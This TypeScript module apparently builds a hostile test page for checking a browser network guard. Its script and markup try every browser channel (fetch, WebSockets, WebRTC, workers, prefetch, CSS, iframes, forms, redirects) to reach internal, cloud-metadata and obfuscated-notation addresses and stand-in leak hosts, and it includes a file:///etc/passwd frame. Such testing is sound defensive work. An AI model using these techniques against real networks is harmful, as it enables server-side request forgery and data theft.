/**
 * What a hostile page tries to reach: internal addresses in several notations, ways around the guard, and names that only the machine
 * itself knows.
 */
const targets = [
  '127.0.0.1:9',
  '10.0.0.5',
  '169.254.169.254',
  '[::1]:9',
  'localhost:9',
  '192.168.1.1',
  '[fd00::5]',
  '2130706433',
  '0x7f.1',
  'internal.corp',
  '0.0.0.0:9',
  '[::ffff:10.0.0.5]',
  '8.8.8.8:53',
  'leak.example.net',
];
const iceServers = [
  '10.0.0.5',
  '127.0.0.1',
  '93.184.216.34',
  '8.8.8.8',
  'stun.example.net',
  '169.254.169.254',
  '[fd00::5]',
];

/** Each way also requests its own name, which shows that it was really tried. */
const NAMED_BY_WAY = 'way.example.net';
export const wayIn = new RegExp(`([a-z]+)\\.${NAMED_BY_WAY.replaceAll('.', '\\.')}`);

/** All ways out of a browser by script. */
const script = `
const placesOf = (way) => [...${JSON.stringify(targets)}, way + '.${NAMED_BY_WAY}'];
const attempt = (go) => { try { Promise.resolve(go()).catch(() => {}) } catch {} };
const scheme = location.protocol + '//';
const tryAll = (way, go) => { for (const [at, place] of placesOf(way).entries()) attempt(() => go(place, at)) };
tryAll('fetch', (place) => fetch(scheme + place + '/', { mode: 'no-cors' }));
tryAll('keepalive', (place) => fetch(scheme + place + '/', { mode: 'no-cors', keepalive: true }));
tryAll('xhr', (place) => { const request = new XMLHttpRequest(); request.open('GET', scheme + place + '/'); request.send() });
tryAll('beacon', (place) => navigator.sendBeacon(scheme + place + '/', 'x'));
tryAll('socket', (place) => new WebSocket('ws://' + place + '/'));
tryAll('securesocket', (place) => new WebSocket('wss://' + place + '/'));
tryAll('events', (place) => new EventSource(scheme + place + '/'));
tryAll('transport', (place) => new WebTransport('https://' + place.replace(/:9$/, '') + ':4433/').ready);
tryAll('module', (place) => import(scheme + place + '/module.js'));
tryAll('popup', (place) => window.open(scheme + place + '/'));
const inWorker = (kind) => [
  ...placesOf(kind + 'fetch').map((place) => 'fetch("' + scheme + place + '/", { mode: "no-cors" }).catch(() => {})'),
  ...placesOf(kind + 'socket').map((place) => 'try { new WebSocket("' + scheme.replace('http', 'ws') + place + '/") } catch {}'),
  ...placesOf(kind + 'import').map((place) => 'try { importScripts("' + scheme + place + '/") } catch {}')].join(';');
attempt(() => new Worker(URL.createObjectURL(new Blob([inWorker('worker')]))));
attempt(() => new SharedWorker(URL.createObjectURL(new Blob([inWorker('shared')]))));
attempt(() => navigator.serviceWorker.register('/worker.js'));
attempt(() => {
  for (const server of [...${JSON.stringify(iceServers)}, 'turn.${NAMED_BY_WAY}']) {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: ['stun:' + server + ':3478'] },
      { urls: ['turn:' + server + ':3478?transport=tcp', 'turn:' + server + ':3478?transport=udp', 'turns:' + server + ':5349?transport=tcp'], username: 'u', credential: 'p' } ] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    setTimeout(() => { for (const candidate of ['candidate:1 1 udp 2122260223 10.0.0.5 5000 typ host', 'candidate:2 1 tcp 2122260223 127.0.0.1 9 typ host tcptype passive', 'candidate:3 1 udp 1 x.local 5000 typ host'])
      peer.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => {}) }, 300);
  }
});
addEventListener('DOMContentLoaded', () => {
  for (const kind of ['ping', 'load']) for (const link of document.querySelectorAll('.' + kind)) attempt(() => link.click());
  for (const form of document.forms) attempt(() => form.submit());
  tryAll('redirected', (place) => { const frame = document.createElement('iframe'); frame.src = '/redirect?to=' + encodeURIComponent(scheme + place + '/'); document.body.append(frame) });
  // Not before the page is complete: what is at its end would never be tried.
  setTimeout(() => { location.href = 'http://10.0.0.5/top' }, 2500);
});
`;

/** The page with the same ways out in markup and styles. It has no text, so that it stays open until its time is up. */
export function waysOutPage(scheme: string): string {
  const each = (way: string, write: (address: string, at: number) => string): string =>
    [...targets, `${way}.${NAMED_BY_WAY}`].map((place, at) => write(`${scheme}://${place}/`, at)).join('\n');
  const link = (way: string, rel: string): string =>
    each(way, (address) => `<link rel="${rel}" href="${address}">`);
  const speculate = (way: string) => [
    {
      source: 'list',
      urls: [...targets, `${way}.${NAMED_BY_WAY}`].map((place) => `${scheme}://${place}/`),
      eagerness: 'immediate',
    },
  ];
  return `<!doctype html><title>out</title><script>${script}</script>
${link('dnsprefetch', 'dns-prefetch')}${link('preconnect', 'preconnect')}${link('prefetch', 'prefetch')}${link('preload', 'preload" as="script')}
${link('style', 'stylesheet')}${link('icon', 'icon')}${link('manifest', 'manifest')}${link('modulepreload', 'modulepreload')}
<script type="speculationrules">${JSON.stringify({ prefetch: speculate('speculated'), prerender: speculate('prerendered') })}</script>
<style>${each('cssimport', (address) => `@import url(${address});`)}${each('font', (address, at) => `@font-face { font-family: f${at}; src: url(${address}) } .f${at} { font-family: f${at} }`)}${each('background', (address, at) => `.b${at} { background: url(${address}) }`)}</style>
${each('font', (_, at) => `<p class="f${at} b${at}">.</p>`)}
${each('image', (address) => `<img src="${address}"><img srcset="${address} 2x">`)}
${each('frame', (address) => `<iframe src="${address}"></iframe>`)}<iframe src="file:///etc/passwd"></iframe>
${each('object', (address) => `<object data="${address}"></object>`)}
${each('embed', (address) => `<embed src="${address}">`)}
${each('video', (address) => `<video src="${address}" autoplay muted></video>`)}
${each('ping', (address) => `<a class="ping" href="#" ping="${address}"></a>`)}
${each('form', (address, at) => `<form action="${address}" target="frame${at}" method="post"></form><iframe name="frame${at}"></iframe>`)}
${each('download', (address) => `<a class="load" download href="${address}"></a>`)}
${each('script', (address) => `<script src="${address}"></script>`)}`;
}

export const serviceWorker = `
self.addEventListener('install', () => { for (const target of ${JSON.stringify(targets)}) { fetch('http://' + target + '/service', { mode: 'no-cors' }).catch(() => {}); try { new WebSocket('ws://' + target + '/service') } catch {} } });
self.addEventListener('fetch', () => {});`;
